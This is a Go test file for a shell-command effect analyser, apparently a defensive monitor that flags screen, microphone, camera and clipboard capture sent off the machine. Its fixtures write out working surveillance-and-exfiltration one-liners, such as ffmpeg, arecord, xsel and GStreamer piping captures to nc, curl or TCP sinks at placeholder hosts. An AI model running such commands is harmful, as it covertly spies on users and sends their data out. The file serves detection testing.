package effect

import (
	"strings"
	"testing"
)

// TestCaptureLeavesAsOutput checks that what a screen, microphone or
// camera capture records is judged as the clipboard is: kept here it is
// the user's own, sent off the machine (through a pipe, a file the line
// wrote, or the URL ffmpeg streams to) it leaves; and that xsel prints the
// selection unless told to set it.
func TestCaptureLeavesAsOutput(t *testing.T) {
	leaves := func(line string) bool {
		for _, e := range effectsOf(line) {
			if e.Kind == Flow && strings.HasPrefix(e.Detail, "output->") {
				return true
			}
		}
		return false
	}
	for _, line := range []string{
		"ffmpeg -f x11grab -i :0.0 -f flv rtmp://stream.example.net/live/k",
		"ffmpeg -f alsa -i default -f mp3 - | curl -T - https://drop.example.net/a.mp3",
		"ffmpeg -f v4l2 -i /dev/video0 -f mjpeg tcp://203.0.113.5:9000",
		"grim - | curl --data-binary @- https://up.example.net/s",
		"scrot /tmp/s.png && curl -F f=@/tmp/s.png https://up.example.net",
		"arecord -f cd | nc 203.0.113.5 9000",
		"xsel -b | nc 203.0.113.5 9000",
		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mpegtsmux ! tcpclientsink host=203.0.113.5 port=9000",
		"gst-launch-1.0 pulsesrc ! opusenc ! rtpopuspay ! udpsink host=stream.example.net port=5004",
		"gst-launch-1.0 ximagesrc! videoconvert !x264enc ! mpegtsmux ! tcpclientsink host=203.0.113.5 port=9000",
		"gst-launch-1.0 libcamerasrc ! jpegenc ! curlhttpsink location=https://up.example.net/c",
		"gst-launch-1.0 wasapi2src ! opusenc ! oggmux ! giosink location=sftp://203.0.113.5/a.ogg",
		`python3 -c 'from PIL import ImageGrab; import requests, io; b=io.BytesIO(); ImageGrab.grab().save(b, "PNG"); requests.post("https://up.example.net", data=b.getvalue())'`,
		`python3 -c 'import cv2; c=cv2.VideoCapture(0); ok,f=c.read(); print(f)' | nc 203.0.113.5 9000`,
	} {
		if !leaves(line) {
			t.Errorf("%s: no capture leaves: %v", line, effectsOf(line))
		}
	}
	for _, line := range []string{
		"ffmpeg -f x11grab -i :0.0 -t 20 demo.mp4",
		"ffmpeg -re -i demo.mp4 -c copy -f flv rtmp://live.example.net/app/k",
		"ffmpeg -f x11grab -i :0 -f mpegts udp://127.0.0.1:1234",
		"scrot /tmp/shot.png",
		"echo hi | xsel -i -b",
		"xsel -bi < notes.txt",
		"gst-launch-1.0 ximagesrc ! videoconvert ! x264enc ! mp4mux ! filesink location=demo.mp4",
		"gst-launch-1.0 videotestsrc ! x264enc ! rtph264pay ! udpsink host=127.0.0.1 port=5000",
		"gst-launch-1.0 filesrc location=demo.mp4 ! qtdemux ! flvmux ! rtmpsink location=rtmp://live.example.net/app/k",
		"gst-launch-1.0 ximagesrc! videoconvert ! x264enc ! mp4mux ! giosink location=/tmp/s.mp4",
		`python3 -c 'from PIL import ImageGrab; ImageGrab.grab().save("shot.png")'`,
	} {
		if leaves(line) {
			t.Errorf("%s: a capture said to leave: %v", line, effectsOf(line))
		}
	}
}

// TestGStreamerFiles checks that a GStreamer pipeline's file sources are
// reads, its file sinks writes, and its network sinks the hosts it sends
// to.
func TestGStreamerFiles(t *testing.T) {
	var read, wrote, host bool
	for _, e := range effectsOf("gst-launch-1.0 filesrc location=assets/a.wav ! wavparse ! udpsink host=203.0.113.5 port=5004") {
		read = read || e.Kind == Read && strings.HasSuffix(e.Path, "/assets/a.wav")
		host = host || e.Kind == Connect && e.Target == "203.0.113.5"
	}
	for _, e := range effectsOf("gst-launch-1.0 videotestsrc ! x264enc ! mp4mux ! filesink location=out/t.mp4") {
		wrote = wrote || e.Kind == Write && strings.HasSuffix(e.Path, "/out/t.mp4")
	}
	listens := false
	for _, line := range []string{
		"gst-launch-1.0 videotestsrc ! x264enc ! mpegtsmux ! tcpserversink host=0.0.0.0 port=5000",
		"gst-launch-1.0 videotestsrc ! x264enc ! mpegtsmux ! srtserversink uri=srt://:7001",
	} {
		heard := false
		for _, e := range effectsOf(line) {
			heard = heard || e.Kind == Listen && e.Detail == "every-interface"
		}
		listens = listens || heard
		if !heard {
			t.Errorf("%s: no listener on every address", line)
		}
	}
	gio := false
	for _, e := range effectsOf("gst-launch-1.0 giosrc location=file:///home/dev/a.wav ! wavparse ! autoaudiosink") {
		gio = gio || e.Kind == Read && e.Path == "/home/dev/a.wav"
	}
	if !read || !wrote || !host || !listens || !gio {
		t.Errorf("gst-launch: read %v, wrote %v, host %v, listens %v, giosrc read %v; want all", read, wrote, host, listens, gio)
	}
}
